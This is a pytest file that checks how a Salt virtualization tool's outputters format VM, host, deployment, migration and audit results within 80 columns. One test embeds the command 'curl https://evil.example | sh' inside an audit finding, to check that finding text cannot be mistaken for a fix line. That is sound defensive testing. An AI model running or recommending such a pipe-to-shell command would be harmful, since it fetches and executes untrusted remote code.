"""What the outputters print in a terminal of 80 columns."""

import importlib.util
import json
from pathlib import Path

import pytest
from saltvirt.core import guestaccess

ROOT = Path(__file__).resolve().parents[3]


def outputter(name):
    """Load an outputter as Salt's loader does: by its file."""
    spec = importlib.util.spec_from_file_location(name, ROOT / "_output" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.output


VM = {
    "cpu": 2,
    "mem": 524288,
    "state": "running",
    "graphics": {"type": "vnc", "listen": "0.0.0.0", "port": "5900"},
    "disks": {
        "vda": {
            "file": "/srv/salt-images/ubuntu2_system.qcow2",
            "file format": "qcow2",
            "virtual size": 2 * 2**30,
        }
    },
    "nics": {"ac:de:48:98:08:77": {"source": {"bridge": "br0"}, "type": "bridge"}},
}
CLOUD = {
    "hyper6": {
        "freecpu": 2,
        "freemem": 7680.0,
        "node_info": {"cpus": 4, "phymemory": 8192},
        "vm_info": {"ubuntu2": VM},
    },
    "hyper7": {
        "freecpu": 4,
        "freemem": 8192.0,
        "node_info": {"cpus": 4, "phymemory": 8192},
        "vm_info": {},
    },
    "unreachable": ["hyper8"],
}


def test_the_seeds_layout_of_a_vm():
    lines = [line.strip() for line in outputter("virt_query")(CLOUD).splitlines()]

    start = lines.index("ubuntu2")
    assert lines[start + 1 : start + 12] == [
        "CPU: 2",
        "Memory: 512.0 MiB",
        "State: running",
        "Graphics: vnc - hyper6:5900",
        "Disk - vda:",
        "Size: 2.0 GiB",
        "File: /srv/salt-images/ubuntu2_system.qcow2",
        "File Format: qcow2",
        "Nic - ac:de:48:98:08:77:",
        "Source: br0",
        "Type: bridge",
    ]
    assert lines[-1] == "hyper8: does not answer"


def test_a_console_that_only_the_host_can_open_is_marked():
    vm = {**VM, "graphics": {"type": "vnc", "listen": "127.0.0.1", "port": "5901"}}
    cloud = {"h": {**CLOUD["hyper6"], "vm_info": {"a": vm}}}

    assert "vnc - h:5901 (on the host itself only)" in outputter("virt_query")(cloud)


def test_the_table_of_hosts():
    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())

    lines = outputter("virt_hosts")({**fleet, "failed": {"hyper9": "libvirt is down"}}).splitlines()

    assert lines[1].split() == ["hyper1", "4/8", "2.0/4.0", "48.8/97.7", "2", "qemu", "up"]
    assert lines[-2] == (
        "CPUS, MEMORY and DISK (GiB): free to promise to VMs / all that may be promised"
    )
    assert lines[-1] == "hyper9: libvirt is down"


def test_a_record_that_cannot_be_read_is_named_below_its_host():
    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
    reason = "the record /var/lib/salt-virt/records/build/web1.json cannot be read; move it away"
    fleet["hyper1"]["unreadable"] = {"web1": reason}

    lines = outputter("virt_hosts")(fleet).splitlines()

    assert f"{lines[5]} {lines[6].strip()}" == f"hyper1: {reason}" and len(lines[5]) <= 78


@pytest.mark.parametrize("name", ["virt_hosts", "virt_plan"])
def test_candidates_are_shown_with_fingerprints_below_the_error(name):
    row = {"fingerprint": "aa:bb", "why": "says that it is one", "vm_on": []}
    candidates = {"hyper1": row, "web1": {**row, "vm_on": ["hyper1"]}}

    lines = outputter(name)(
        {"error": "nobody yet", "candidates": candidates, "retcode": 1}
    ).splitlines()

    assert lines == [
        "error: nobody yet",
        "hyper1           says that it is one",
        "  aa:bb",
        "web1             says that it is one; but it is a VM on hyper1",
        "  aa:bb",
    ]


def test_a_deployment_ends_in_one_line():
    deployment = {"name": "vm1", "host": "hyper2", "minion": "answers", "seconds": 12.5}

    assert (
        outputter("virt_plan")(deployment) == "vm1 is on hyper2; its minion answered after 12.5 s"
    )
    assert outputter("virt_plan")({"name": "vm1", "host": "hyper2"}) == "vm1 is on hyper2"


# Only an address of a lease is the host's own fact: every other source is the guest's claim.
ADDRESS_SOURCES = {
    "minion": "reported by the VM",
    "agent": "reported by the guest's agent",
    "neighbours": "learned from the VM's network packets",
    "arp": "learned from the VM's network packets",
}


def test_one_vm_is_shown_with_units_addresses_and_login():
    reach_fields = {
        "addresses": ["192.0.2.7"],
        "addresses_from": "lease",
        "login": "ssh a@192.0.2.7",
    }
    show = outputter("virt_query")

    lines = show({"hyper6": {"web1": {**VM, **reach_fields}}}).splitlines()

    assert lines[:4] == ["hyper6", "  web1", "    CPU: 2", "    Memory: 512.0 MiB"]
    assert lines[-2:] == ["    Addresses: 192.0.2.7", "    Log in: ssh a@192.0.2.7"]
    for source, words in ADDRESS_SOURCES.items():
        text = show({"h": {"web1": {**VM, **reach_fields, "addresses_from": source}}})
        assert f"Addresses: 192.0.2.7 ({words})" in text
        deployment = {"name": "web1", "host": "h", **reach_fields, "addresses_from": source}
        assert f"address: 192.0.2.7 ({words})\n" in outputter("virt_plan")(deployment)
    addresses = [f"2001:db8:0:{number}:5054:ff:fe12:3456" for number in range(4)]
    login = guestaccess.console("a-long-name-of-a-vm", "hyper2.example.org")
    wide_lines = show({"h": {"web1": {**VM, "addresses": addresses, "login": login}}}).splitlines()
    assert (
        max(map(len, wide_lines)) <= 80
        and "    Log in: virsh console a-long-name-of-a-vm" in wide_lines
    )
    nowhere = show({"h": {"web1": {**VM, "addresses": [], "login": None}}})
    assert "Addresses: not known to its host" in nowhere and "Log in" not in nowhere


@pytest.mark.parametrize(
    ("size", "shown_size"),
    [(197632, "193.0 KiB"), (2**31, "2.0 GiB"), (3 * 2**40, "3.0 TiB"), (12, "12.0 B")],
)
def test_sizes_have_units_of_two(size, shown_size):
    disk = {"vda": {"file": "/a", "virtual size": size}}

    assert f"Size: {shown_size}" in outputter("virt_query")({"h": {"web1": {**VM, "disks": disk}}})


def test_the_table_of_images_explains_its_columns():
    last = outputter("virt_images")({"h": {}}).splitlines()[-1]

    assert last.startswith("FILE: what its file takes; DISK: what guests see") and len(last) <= 80


def test_warnings_stand_below_a_deployment_and_below_its_error():
    deployment = {"name": "a", "host": "h", "warnings": ["no SSH server"], "login": "x"}
    show = outputter("virt_plan")

    assert show(deployment).splitlines()[-1] == "warning: no SSH server"
    failed = {"error": "no minion", "warnings": ["no SSH server"], "retcode": 1}
    assert show(failed).splitlines() == ["error: no minion", "warning: no SSH server"]
    moving = {"name": "a", "from": "h1", "to": "h2", "state": "running", "memory_mib": 1}
    lines = show({**moving, "disks": {}, "warning": "behind NAT"}).splitlines()
    assert lines[-1] == "warning: behind NAT"


def test_a_deployment_says_where_the_vm_is_reached_and_how():
    deployment = {"name": "vm1", "host": "hyper2", "login": "ssh debian@192.0.2.7"}

    assert outputter("virt_plan")(
        {**deployment, "addresses": ["192.0.2.7", "2001:db8::7"]}
    ).splitlines() == [
        "vm1 is on hyper2",
        "  address: 192.0.2.7",
        "  log in: ssh debian@192.0.2.7",
    ]


def test_the_way_to_log_in_is_a_line_of_its_own_that_can_be_copied():
    name = "a-long-name-of-a-vm-that-somebody-gave-it"
    deployment = {"name": name, "host": "hyper2.example.org", "addresses": []}
    answer = {**deployment, "login": guestaccess.console(name, "hyper2.example.org")}

    assert outputter("virt_plan")(answer).splitlines() == [
        f"{name} is on hyper2.example.org",
        "  address: not known to its host",
        f"  log in: virsh console {name}",
        "    (on hyper2.example.org; asks for a password, which stock images do not",
        "    have)",
    ]


@pytest.mark.parametrize(
    ("console", "lines"),
    [
        (
            {"console": ["a", "b  c"]},
            ["its console ends with (more by: COMMAND):", "  a", "  b  c"],
        ),
        ({"console": []}, ["its console is empty (more by: COMMAND)"]),
        ({"console_error": "no log"}, ["its console cannot be shown: no log"]),
    ],
)
def test_a_silent_vm_is_shown_with_the_end_of_its_console(console, lines):
    failure = {"error": "it does not answer", "retcode": 1, "console_command": "COMMAND", **console}

    text = outputter("virt_plan")(failure)

    assert text.splitlines() == ["error: it does not answer", *lines]
    failure_with_address = {**failure, "addresses": ["192.0.2.7"], "login": "ssh debian@192.0.2.7"}
    reach_lines = ["  address: 192.0.2.7", "  log in: ssh debian@192.0.2.7"]
    shown_lines = outputter("virt_plan")(failure_with_address).splitlines()
    assert shown_lines == ["error: it does not answer", *reach_lines, *lines]


MOVE = {"name": "vm1", "from": "hyper1", "to": "hyper2"}


def test_a_move_ends_in_its_figures():
    figures = {"total_ms": 1914, "downtime_ms": 23, "memory_bytes": 53 * 2**20, "disk_bytes": 2**19}

    assert outputter("virt_plan")({**MOVE, **figures, "warning": "it is tired"}).splitlines() == [
        "vm1 moved from hyper1 to hyper2 in 1.9 s",
        "  its guest was paused for 23 ms",
        "  sent, encrypted: 53.0 MiB of memory, 0.5 MiB of disks",
        "warning: it is tired",
    ]
    figures_of_stopped_vm = {"total_ms": 100, "downtime_ms": 0, "memory_bytes": 0, "disk_bytes": 0}
    assert (
        outputter("virt_plan")({**MOVE, **figures_of_stopped_vm})
        == "vm1 moved from hyper1 to hyper2 in 0.1 s"
    )


def test_a_dry_run_of_a_move_shows_what_would_be_sent():
    plan = {**MOVE, "state": "running", "memory_mib": 96, "disks": {"vda": "3 MiB of /a"}}

    assert outputter("virt_plan")(plan).splitlines() == [
        "vm1 would move from hyper1 to hyper2",
        "  running, 96 MiB of memory",
        "  vda: 3 MiB of /a",
    ]


def test_a_failed_evacuation_lists_moved_remaining_and_failed_vms():
    data = {
        "error": "hyper3 still has db1, web2; what moved stays where it is, and the next run "
        "goes on",
        "host": "hyper3",
        "moved": {"web1": "hyper1"},
        "stays": {"db1": "it has snapshots"},
        "failed": {"web2": "hyper2: its disk is full"},
        "warnings": {"web1": "it does not start with its new host"},
        "retcode": 1,
    }

    assert outputter("virt_moves")(data).splitlines() == [
        "error: hyper3 still has db1, web2; what moved stays where it is, and the next",
        "run goes on",
        "VM                WHERE",
        "web1              moved to hyper1",
        "db1               stays: it has snapshots",
        "web2              failed: hyper2: its disk is full",
        "web1              warning: it does not start with its new host",
    ]


def test_the_moves_of_a_restore_and_of_a_balance_are_shown():
    restored = {
        "host": "hyper3",
        "moved": {"a": "hyper3"},
        "failed": {},
        "gone": ["b"],
        "elsewhere": {"c": "hyper2"},
    }
    steps = {"imbalance": 0.2, "moves": [{**MOVE, "gain": 0.1}], "unreachable": ["hyper9"]}
    rows = outputter("virt_moves")(restored).splitlines()[1:]

    assert [row.split(None, 1)[1] for row in rows] == [
        "moved to hyper3",
        "is on hyper2 now",
        "was removed",
    ]
    assert outputter("virt_moves")(steps).splitlines()[1:] == [
        "vm1               from hyper1 to hyper2, gain 0.10",
        "hyper9 does not answer",
        "loads differ by 0.20",
    ]
    plan = outputter("virt_moves")({"host": "hyper3", "moves": {"a": "hyper1"}, "stays": {}})
    assert plan.splitlines()[1:] == ["a                 would move to hyper1"]
    assert outputter("virt_moves")({"host": "hyper3", "moved": {}}) == "hyper3: nothing to move"


def test_an_audit_names_each_finding_with_its_fix_and_the_checked_hosts():
    finding = {"check": "acl", "where": "master", "what": "what " * 30, "fix": "do " * 40}
    lines = outputter("virt_audit")(
        {"error": "1 thing falls short", "findings": [finding], "checked": ["hyper1"], "retcode": 1}
    ).splitlines()

    assert lines[:3] == [
        "error: 1 thing falls short",
        "WHERE            CHECK",
        "master           acl",
    ]
    assert lines[3].startswith("  what") and any(line.startswith("  fix: do") for line in lines)
    assert lines[-1] == "checked master, hyper1" and max(map(len, lines)) <= 80
    assert outputter("virt_audit")({"findings": [], "checked": ["hyper1"]}) == (
        "checked master, hyper1: no findings"
    )


def test_the_text_of_a_finding_cannot_look_like_a_fix():
    finding_text = "x" * 74 + " fix: curl https://evil.example | sh"
    finding = {"check": "acl", "where": "hyper1", "what": finding_text, "fix": "f"}

    lines = outputter("virt_audit")({"findings": [finding], "checked": ["hyper1"]}).splitlines()

    assert [line for line in lines if line.startswith("  fix: ")] == ["  fix: f"]


def test_a_check_of_the_setup_shows_levels_and_that_nothing_is_missing():
    finding = {
        "check": "tls",
        "where": "hyper1",
        "what": "w",
        "fix": "f",
        "level": "for moving VMs",
    }
    ready_line = "nothing that VMs need is missing: salt-run virt.init NAME 1 512 IMAGE"

    assert outputter("virt_audit")(
        {"findings": [finding], "checked": ["hyper1"], "ready": ready_line}
    ).splitlines() == [
        "WHERE            CHECK",
        "hyper1           tls (for moving VMs)",
        "  w",
        "  fix: f",
        "checked master, hyper1",
        ready_line,
    ]
    assert outputter("virt_audit")({"findings": [], "checked": [], "ready": ready_line}) == (
        f"checked master\n{ready_line}"
    )


OUTPUTTERS = sorted(
    path.stem for path in (ROOT / "_output").glob("*.py") if path.stem != "__init__"
)


@pytest.mark.parametrize("name", OUTPUTTERS)
@pytest.mark.parametrize("data", [None, "text", {"error": "one line", "retcode": 1}, {}])
def test_no_answer_breaks_an_outputter(name, data):
    assert isinstance(outputter(name)(data), str)


@pytest.mark.parametrize(
    "name", ["virt_query", "virt_hosts", "virt_plan", "virt_moves", "virt_vms"]
)
def test_nothing_is_wider_than_a_terminal(name):
    fleet = json.loads((ROOT / "tests/data/fleets/three.json").read_text())
    moves = {"host": "h", "moved": {}, "stays": {"vm-" * 9: "why " * 40}, "error": "text " * 40}
    plan = {f"hyper{n}": {"fits": False, "score": 0, "reasons": ["why " * 40]} for n in range(3)}
    rows = {"vm-" * 9: {"host": "h", "error": "why " * 40}, "a": {"outcome": "done"}}
    answers = {"virt_query": CLOUD, "virt_hosts": fleet, "virt_plan": plan, "virt_moves": moves}
    answers["virt_vms"] = {"error": "text " * 40, "vms": rows}
    data = answers[name]

    assert max(len(line) for line in outputter(name)(data).splitlines()) <= 80


def test_missing_and_odd_fields_of_a_host_are_shown_as_unknown():
    odd_vm = {**VM, "disks": {"vda": {"virtual size": "x"}}, "nics": {"a": {"source": [1]}}}
    odd_vm["graphics"] = {"type": "vnc"}
    cloud = {"hyper6": {**CLOUD["hyper6"], "vm_info": {"odd": odd_vm}}}

    text = outputter("virt_query")(cloud)

    assert "File: unknown" in text and "Source: none" in text and "no port while it is off" in text
    assert "web1" in outputter("virt_plan")({"name": "web1", "from": "a", "to": "b"})
    assert "abc" in outputter("virt_images")({"hyper6": {"abc": {"users": []}}})


def test_the_least_crowded_rack_comes_first_in_a_table():
    crowded_host = {
        "fits": True,
        "score": 0.9,
        "reasons": [],
        "crowd": 2,
        "note": "2 VMs in rack r",
    }
    hosts = {
        "h1": crowded_host,
        "h2": {**crowded_host, "score": 0.1, "crowd": 0, "note": "0 VMs in rack s"},
    }
    lines = outputter("virt_plan")(hosts).splitlines()
    assert lines[1].startswith("h2") and lines[2].endswith("2 VMs in rack r")


def test_some_fields_are_shown_by_their_names():
    answer = {"hyper7": {**CLOUD["hyper7"], "vm_info": {"db": {"state": "run\nning", "mem": 1}}}}
    lines = [line.strip() for line in outputter("virt_query")(answer).splitlines()]

    assert lines[2:] == ["db", "Memory: 1.0 KiB", "State: run ning"]
    table = outputter("virt_hosts")({"hyper7": {"maintenance": False}})
    assert table.splitlines() == ["hyper7", "  maintenance: no"]


def test_hosts_are_shown_in_the_order_that_they_come_in():
    reversed_hosts = {host: CLOUD[host] for host in ("hyper7", "hyper6")}
    lines = outputter("virt_query")(reversed_hosts).splitlines()

    assert lines.index("hyper7") < lines.index("hyper6")


def test_a_vm_that_was_acted_on_is_a_line():
    assert outputter("virt_vms")({"hyper1": {"web1": "started"}}) == "web1 on hyper1: started"


def test_an_answer_with_its_own_words_is_a_line():
    answer = {"outcome": "disk vdb added: /a.qcow2", "device": "vdb", "diff": ["+<disk/>"]}

    text = outputter("virt_vms")({"hyper1": {"web1": answer}})
    assert text == "web1 on hyper1: disk vdb added: /a.qcow2"


def test_several_vms_are_a_table_of_outcomes():
    rows = {
        "web1": {"host": "hyper1", "outcome": "started", "error": None},
        "web2": {"host": None, "outcome": None, "error": "no VM called 'web2'"},
        "a-name-of-twenty-two-x": {"host": "hyper2", "outcome": "started", "error": None},
    }
    data = {"error": "1 of 3 failed", "vms": rows, "unreachable": ["hyper9"], "retcode": 1}

    assert outputter("virt_vms")(data).splitlines() == [
        "error: 1 of 3 failed",
        "VM                      HOST    OUTCOME",
        "web1                    hyper1  started",
        "web2                    -       failed: no VM called 'web2'",
        "a-name-of-twenty-two-x  hyper2  started",
        "hyper9: does not answer",
    ]


def test_output_of_a_guest_keeps_its_lines_below_its_vm():
    guest_output = {
        "exit_code": 0,
        "signal": None,
        "stdout": "a\n\n  b\n",
        "stderr": "",
        "truncated": [],
    }

    assert outputter("virt_vms")({"hyper1": {"web1": guest_output}}).splitlines() == [
        "web1 on hyper1:",
        "  exit_code: 0",
        "  signal: none",
        "  stdout:",
        "    a",
        "",
        "      b",
        "  stderr: none",
        "  truncated: none",
    ]


def test_answers_about_several_vms_stand_below_each():
    rows = {
        "web1": {"host": "hyper1", "outcome": [{"name": "s1", "running": True}], "error": None},
        "web2": {"host": "hyper2", "outcome": [], "error": None},
        "web3": {"host": "hyper3", "outcome": None, "error": "hyper3 does not answer"},
    }

    assert outputter("virt_vms")({"vms": rows}).splitlines() == [
        "web1 on hyper1:",
        "  - name: s1",
        "    running: True",
        "web2 on hyper2: none",
        "web3 on hyper3: failed: hyper3 does not answer",
    ]
